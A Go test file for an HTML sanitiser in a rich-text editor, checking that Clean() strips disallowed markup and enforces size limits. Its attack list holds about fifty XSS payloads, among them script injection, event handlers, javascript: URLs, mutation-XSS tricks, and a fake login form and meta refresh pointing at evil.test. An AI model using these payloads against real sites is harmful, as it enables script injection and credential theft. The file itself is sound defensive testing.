package richtext

import (
	"encoding/base64"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// attacks are ways to smuggle script, fetches and disguise into rich text.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img src="https://evil.test/pixel.png">`, `<img/src="data:text/html,<script>alert(1)</script>">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mtext></p><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="jav&#x09;ascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`, `<a href="/app/settings" onclick="alert(1)">x</a>`, `<a href="//evil.test">x</a>`, `<a href="https://ok.test" target="_self" rel="opener">x</a>`,
	`<iframe src="https://evil.test"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x.swf"></object>`, `<embed src="x">`, `<base href="https://evil.test/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test">`, `<link rel="stylesheet" href="https://evil.test/x.css">`, `<style>body{background:url(https://evil.test)}</style>`,
	`<form action="https://evil.test"><input name="password"><button>Log in</button></form>`, `<p style="position:fixed;inset:0;background:url(https://evil.test)">x</p>`,
	`<span style="font-size:4000px">x</span>`, `<span style="font-size:16px;behavior:url(x)">x</span>`, `<p id="content" class="sr-only" data-x="1">x</p>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	`<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, "<img src=`x` onerror=`alert(1)`>",
	`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<body onload=alert(1)>`, `<p onmouseover="alert(1)">x</p>`, `<a xlink:href="javascript:alert(1)">x</a>`,
	"<a href=\"java\x00script:alert(1)\">x</a>", `<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>`, `<<p>x`, `<p`, `"><script>alert(1)</script>`,
}

var elements = []string{"html", "head", "body", "p", "br", "hr", "strong", "b", "em", "i", "u", "s", "blockquote", "pre", "code", "ul", "ol", "li", "h1", "h2", "h3", "span", "a", "img"}

// hold fails unless a browser would find nothing in the HTML but what the editor makes.
func hold(t *testing.T, text string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(text))
	require.NoError(t, err)
	for node := range root.Descendants() {
		if node.Type != html.ElementNode {
			continue
		}
		require.Contains(t, elements, node.Data, text)
		for _, attribute := range node.Attr {
			value := attribute.Val
			switch attribute.Key {
			case "href":
				target, err := url.Parse(value)
				require.NoError(t, err, text)
				require.Contains(t, []string{"http", "https", "mailto", "tel"}, target.Scheme, text)
			case "src":
				require.Regexp(t, imageSource, value, text)
			case "style":
				require.Regexp(t, `^(font-size: ?[0-9]{1,2}px|text-align: ?(left|center|right|justify));?$`, strings.ToLower(value), text)
			case "target":
				require.Equal(t, "_blank", value, text)
			case "rel":
				require.True(t, slices.Contains(strings.Fields(value), "noreferrer") || slices.Contains(strings.Fields(value), "noopener"), text)
			default:
				require.Contains(t, []string{"alt", "width", "height"}, attribute.Key, text)
			}
		}
	}
}

func TestCleanLeavesNothingThatRuns(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		clean := Clean(attack)
		hold(t, clean)
		require.Equal(t, clean, Clean(clean), "twice: %s", attack)
	}
}

func FuzzClean(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, text string) { hold(t, Clean(text)) })
}

func TestCleanKeepsWhatTheEditorMakes(t *testing.T) {
	t.Parallel()
	pixel := "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
	text := `<h2>Call</h2><p>She <strong>will</strong> <em>send</em> the <u>W-2</u>, <span style="font-size: 24px">today</span>.</p><ul><li>one</li></ul><p><img src="` + pixel + `" alt="dot"/></p>`
	assert.Equal(t, text, Clean(text))
	link := Clean(`<p><a href="https://example.test/a?b=1">there</a></p>`)
	assert.Contains(t, link, `target="_blank"`)
	assert.Contains(t, link, "noopener")
	assert.Contains(t, link, "noreferrer")
}

func TestCheckBoundsImages(t *testing.T) {
	t.Parallel()
	image := func(size int) string {
		return `<img src="data:image/png;base64,` + base64.StdEncoding.EncodeToString(make([]byte, size)) + `"/>`
	}
	kept, faults := Read("Text", image(MaxImageBytes))
	assert.Empty(t, faults)
	assert.Equal(t, Clean(image(MaxImageBytes)), kept)
	_, faults = Read("Text", image(MaxImageBytes+1))
	require.Len(t, faults, 1)
	assert.Equal(t, "max", faults[0].Key)
	_, faults = Read("Text", image(MaxImageBytes)+image(MaxImageBytes))
	assert.Equal(t, "5 MB", faults[0].Params[1])
}

// Markup is bounded before it is read: what was typed, and what became of it.
func TestReadBoundsMarkup(t *testing.T) {
	for _, piece := range []string{"<p style=\"text-align:center\">x</p>", "<b>x</b>", "<span style=\"font-size:12px;a:b\">", "word ", "<!--", "<p "} {
		kept, faults := Read("Text", strings.Repeat(piece, MaxMarkupBytes/len(piece)+1))
		require.Len(t, faults, 1, piece)
		assert.Equal(t, []string{"Text", "max", "250 kB"}, []string{faults[0].Field, faults[0].Key, faults[0].Params[1]})
		assert.Empty(t, kept)
	}
	_, faults := Read("Text", strings.Repeat("<", MaxMarkupBytes/2))
	assert.Len(t, faults, 1, "each is kept as four characters")
	_, faults = Read("Text", strings.Repeat("data:image/png;base64,A", MaxMarkupBytes/10))
	assert.Len(t, faults, 1, "the names of images are markup")
	_, faults = Read("Text", "<p>"+strings.Repeat("word ", MaxMarkupBytes/5-10)+"</p>")
	assert.Empty(t, faults)
}

func TestTextSaysItPlainly(t *testing.T) {
	t.Parallel()
	assert.Equal(t, "Call her & ask < 3 times", Text("<h2>Call her</h2><p>&amp; ask &lt;<br>3 times</p>", 100))
	assert.Equal(t, "One tw…", Text("<p>One two three</p>", 7))
	assert.Empty(t, Text("<p></p>", 10))
}

// What an image holds is neither read as text nor as markup, however many there are.
func TestImagesAreNotText(t *testing.T) {
	t.Parallel()
	image := "<img src=\"data:image/png;base64," + strings.Repeat("Ab9+", 300) + "\">"
	html := "<p>See " + strings.Repeat(image, 3) + " here</p>"
	require.Equal(t, "See here", Text(html, 200))
	require.Equal(t, "<p>See "+strings.Repeat("<img src=\"data:image/png;base64,\">", 3)+" here</p>", withoutImages(html))
	for _, none := range []string{"data:image/", "data:image/png", "data:image/png;base64,", "data:image/PNG;base64,AA", "data:image/;base64,AA", "data:data:image/"} {
		require.Equal(t, none, withoutImages(none))
	}
	kept, faults := Read("Text", strings.Repeat(image, 3500))
	require.Empty(t, faults, "four megabytes of images are no markup")
	require.Equal(t, 3500, strings.Count(kept, "<img"))
}
